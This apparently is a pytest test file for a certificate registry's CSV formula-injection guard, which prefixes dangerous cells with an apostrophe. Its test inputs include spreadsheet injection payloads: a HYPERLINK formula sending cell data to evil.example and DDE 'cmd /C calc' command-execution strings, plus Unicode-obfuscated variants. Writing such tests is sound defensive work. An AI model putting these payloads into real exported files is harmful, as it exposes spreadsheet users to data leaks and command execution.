"""Tests of certificates.domain.spreadsheet: CSV cells that no spreadsheet reads as a formula, and the one CSV
writer of the registry (every other module writes CSV through it).

Pure functions, no database: the audit's variants, the values that must stay as they are, properties.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from certificates.domain.spreadsheet import FORMULA_STARTS, FormulaSafeDictWriter, formula_safe
from tests.strategies import SOME

ROOT = Path(__file__).resolve().parents[3]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-",
        "--",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\tplain after a tab",
        "\rplain after a carriage return",
        " =1+1",
        "   +1+1",
        "\n=1+1",
        "\u00a0=1+1",  # a non-breaking space
        "\u3000=1+1",  # an ideographic space
        "\u200b=1+1",  # a zero-width space
        "\ufeff=1+1",  # a byte-order mark
        "\x00=1+1",
        "＝1+1",  # full-width
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "﹦1+1",  # small forms
        "﹢1+1",
        "﹣1+1",
        "﹫SUM(1)",
        "−1+1",  # the minus sign
    ],
)
def test_it_makes_a_cell_that_would_start_a_formula_text(text: str) -> None:
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "OCA.0016.0009.CSMS",
        "W01.OCA.0016.1071.CSMS",
        "2024-06-30",
        "1.6",
        "2.0.1",
        "v1.0.0",
        "1.6J-24012021",
        "Version 2.0.1J-25062024",
        "Core; Smart Charging; Firmware Management",
        "Smart Charging (Not Tested)",
        "Meshcrafts AS",
        "DNV GL Lab Arnhem, NL",
        "https://registry.example.org/api/v1/certificates/OCA.0016.0009.CSMS/",
        "a = b",
        "1+1",
        "-1",
        "-1.5",
        "+3",
        "-2e5",
        ".5",
        "",
    ],
)
def test_it_leaves_every_other_value_as_it_is(value: str) -> None:
    assert formula_safe(value) == value


def test_it_writes_none_as_empty_and_numbers_as_numbers() -> None:
    assert (formula_safe(None), formula_safe(3), formula_safe(-3), formula_safe(1.5)) == ("", "3", "-3", "1.5")


def visible(text: str) -> str:
    """``text`` without leading whitespace, controls and invisible format characters."""
    skipped = 0
    while skipped < len(text) and (text[skipped].isspace() or unicodedata.category(text[skipped]) in ("Cc", "Cf")):
        skipped += 1
    return text[skipped:]


@SOME
@given(st.text() | st.text(alphabet=" \t\r\n\u00a0\u200b=+-@＝＋－＠−0123456789.eE", max_size=8))
def test_no_cell_it_returns_starts_a_formula(text: str) -> None:
    cell = formula_safe(text)
    assert cell in (text, "'" + text)
    number = re.fullmatch(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", text, re.ASCII)
    if cell == text and text and not number:
        assert text[0] not in FORMULA_STARTS and visible(text)[:1] not in FORMULA_STARTS, text
    assert formula_safe(cell) == cell  # written once, never twice


def test_the_writer_makes_every_cell_safe_and_leaves_extra_keys_alone() -> None:
    buffer = io.StringIO()
    writer = FormulaSafeDictWriter(buffer, fieldnames=["number", "holder"], extrasaction="ignore")
    writer.writeheader()
    writer.writerow({"number": "OCA.0016.0009.CSMS", "holder": "=1+1", "profiles": [{"name": "=x"}]})
    writer.writerows([{"number": "-1", "holder": "@SUM(1)"}, {"number": None, "holder": "\t=2"}])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["number", "holder"], ["OCA.0016.0009.CSMS", "'=1+1"], ["-1", "'@SUM(1)"], ["", "'\t=2"]]


def test_no_module_writes_csv_but_through_the_safe_writer() -> None:
    """Every CSV the registry writes goes through ``FormulaSafeDictWriter``: no other module makes a writer."""
    sources = [p for package in ("registry", "certificates", "ingest", "bench") for p in (ROOT / package).rglob("*.py")]
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\b|\bfrom csv import\b")
    offenders = [
        str(path.relative_to(ROOT))
        for path in sources
        if path.name != "spreadsheet.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
